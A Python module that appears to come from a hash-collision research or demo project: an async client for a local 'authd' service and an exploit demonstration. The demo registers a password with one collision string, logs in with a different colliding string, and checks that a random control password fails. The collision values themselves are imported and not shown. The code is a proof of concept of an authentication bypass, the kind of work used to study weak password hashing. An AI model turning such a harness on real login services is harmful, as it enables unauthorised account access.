"""
authd client and the network exploit demonstration
"""

import asyncio
import secrets
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

import httpx

from ..collision import TEXTCOLL_A, TEXTCOLL_B
from ..errors import NetworkError
from ..logger import get_logger

logger = get_logger(__name__)

DEFAULT_TIMEOUT = 30.0


@dataclass(frozen=True)
class AuthResult:
    status: int
    ok: bool
    error: Optional[str] = None
    body: Dict[str, Any] = field(default_factory=dict)


class AuthClient:
    """
    Thin async client for authd

    Args:
        base_url: e.g. ``http://127.0.0.1:8731``
        timeout: Per-request timeout in seconds
        fresh_connection: Open a new connection for every call (no keep-alive reuse)
    """

    def __init__(self, base_url: str, timeout: float = DEFAULT_TIMEOUT, fresh_connection: bool = True):
        self.base_url = base_url.rstrip("/")
        self.timeout = timeout
        self.fresh_connection = fresh_connection
        self._client: Optional[httpx.AsyncClient] = None

    def _new_client(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=self.base_url, timeout=self.timeout)

    async def _send(self, method: str, path: str, payload: Optional[Dict[str, Any]] = None) -> AuthResult:
        try:
            if self.fresh_connection:
                async with self._new_client() as client:
                    response = await client.request(method, path, json=payload)
            else:
                if self._client is None:
                    self._client = self._new_client()
                response = await self._client.request(method, path, json=payload)
        except httpx.HTTPError as e:
            raise NetworkError(f"{method} {self.base_url}{path} failed: {e.__class__.__name__}") from e
        try:
            body = response.json()
        except ValueError:
            body = {}
        return AuthResult(status=response.status_code, ok=bool(body.get("ok")), error=body.get("error"), body=body)

    async def close(self) -> None:
        if self._client is not None:
            await self._client.aclose()
            self._client = None

    async def healthz(self) -> AuthResult:
        return await self._send("GET", "/healthz")

    async def register(self, username: str, password: str) -> AuthResult:
        return await self._send("POST", "/register", {"action": "register", "username": username, "password": password})

    async def login(self, username: str, password: str) -> AuthResult:
        return await self._send("POST", "/login", {"action": "login", "username": username, "password": password})

    async def set_password(self, username: str, password: str, new_password: str) -> AuthResult:
        return await self._send(
            "POST",
            "/set_password",
            {"action": "set_password", "username": username, "password": password, "new_password": new_password},
        )


@dataclass(frozen=True)
class DemoStep:
    name: str
    expected: int
    observed: int

    @property
    def passed(self) -> bool:
        return self.expected == self.observed


@dataclass
class DemoReport:
    chain: Optional[str] = None
    steps: List[DemoStep] = field(default_factory=list)

    def step(self, name: str) -> Optional[DemoStep]:
        return next((s for s in self.steps if s.name == name), None)

    @property
    def passed(self) -> bool:
        """Login as b accepted and the control login rejected"""
        collide = self.step("login_b")
        control = self.step("control_login")
        return bool(collide and collide.passed and control and control.passed)

    def lines(self) -> List[str]:
        return [
            f"{s.name}: expected {s.expected}, got {s.observed} [{'pass' if s.passed else 'FAIL'}]" for s in self.steps
        ]


async def exploit_demo(client: AuthClient, username: Optional[str] = None) -> DemoReport:
    """
    Register with string a, then log in with string b on a new connection

    A control login with a random third password must be rejected.

    Raises:
        NetworkError: server unreachable
    """
    username = username or f"eve-{secrets.token_hex(4)}"
    report = DemoReport()

    health = await client.healthz()
    report.chain = health.body.get("chain")
    report.steps.append(DemoStep("healthz", 200, health.status))

    registered = await client.register(username, TEXTCOLL_A.decode("ascii"))
    report.steps.append(DemoStep("register_a", 200, registered.status))

    collided = await client.login(username, TEXTCOLL_B.decode("ascii"))
    report.steps.append(DemoStep("login_b", 200, collided.status))

    control = await client.login(username, secrets.token_urlsafe(24))
    report.steps.append(DemoStep("control_login", 401, control.status))

    logger.info(f"Exploit demo against {client.base_url}: {'pass' if report.passed else 'fail'}")
    return report


def run_exploit_demo(base_url: str, timeout: float = DEFAULT_TIMEOUT) -> DemoReport:
    """Blocking wrapper for the CLI"""
    return asyncio.run(exploit_demo(AuthClient(base_url, timeout=timeout)))
